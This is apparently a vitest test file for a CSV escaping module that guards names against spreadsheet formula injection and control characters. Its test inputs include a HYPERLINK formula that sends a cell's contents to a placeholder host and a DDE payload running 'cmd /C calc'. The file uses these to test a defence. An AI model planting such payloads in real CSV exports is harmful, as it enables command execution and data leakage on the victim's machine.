import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvLine, guarded, unguarded } from '../src/csv.js';

describe('a name in CSV', () => {
  it.each([
    ['=HYPERLINK("http://x/?"&A1)', `'=HYPERLINK("http://x/?"&A1)`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['+1+2', "'+1+2"],
    ['-2+3', "'-2+3"],
    ['-a.jpg', "'-a.jpg"],
    [' =1', "' =1"],
    ['＝1+1', "'＝1+1"],
    ['\t=1', "'\\x09=1"],
    ['\r=1', "'\\x0d=1"],
    ["'=1", "''=1"],
    ['a\nb', 'a\\x0ab'],
    ['a\u001b[31mb\u007f', 'a\\x1b[31mb\\x7f'],
    // untouched
    ['-1', '-1'],
    ['+1.5e3', '+1.5e3'],
    ["'quoted'", "'quoted'"],
    ['a=b', 'a=b'],
    ['day-1/x.jpg', 'day-1/x.jpg'],
    ['', ''],
  ])('%j stands as %j, and is read again as it was', (name, cell) => {
    expect(guarded(name)).toBe(cell);
    expect(unguarded(cell)).toBe(name);
    expect(parse(csvLine([name, 'x']))).toEqual([[cell, 'x']]);
    expect(parse(csvLine([name, 'x'], 'raw'))).toEqual([[name, 'x']]);
  });

  it('is one line', () => {
    expect(csvLine(['a\nb\r\u2028', 'c,d"', 1, -1])).toBe(
      'a\\x0ab\\x0d\\xe2\\x80\\xa8,"c,d""",1,-1\n',
    );
  });
});
